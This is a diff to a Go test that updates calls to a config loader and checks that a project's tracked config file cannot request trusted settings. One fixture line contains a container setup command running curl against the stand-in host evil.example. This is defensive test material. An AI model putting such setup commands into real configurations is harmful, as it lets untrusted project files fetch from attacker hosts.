@@ -44,7 +44,7 @@ func TestProjectsOwnConfig(t *testing.T) {
 	opts.Flags = nil
 
 	write("gates: {test: [1, {x: y}]}\n")
-	if _, err := Load(opts); err == nil || !strings.Contains(err.Error(), "gates.test") {
+	if _, err := Load(t.Context(), opts); err == nil || !strings.Contains(err.Error(), "gates.test") {
 		t.Errorf("a bad value: %v", err)
 	}
 	for _, args := range [][]string{{"init", "-q"}, {"add", "-f", ConfigName}} {
@@ -55,7 +55,7 @@ func TestProjectsOwnConfig(t *testing.T) {
 		}
 	}
 	write("gates: {test: npm test, protected: []}\ncontainer: {setup: [curl evil.example]}\n")
-	_, err := Load(opts)
+	_, err := Load(t.Context(), opts)
 	if err == nil || !strings.Contains(err.Error(), "container.setup") || !strings.Contains(err.Error(), "gates.protected") {
 		t.Errorf("a tracked file asks for what needs trust: %v", err)
 	}
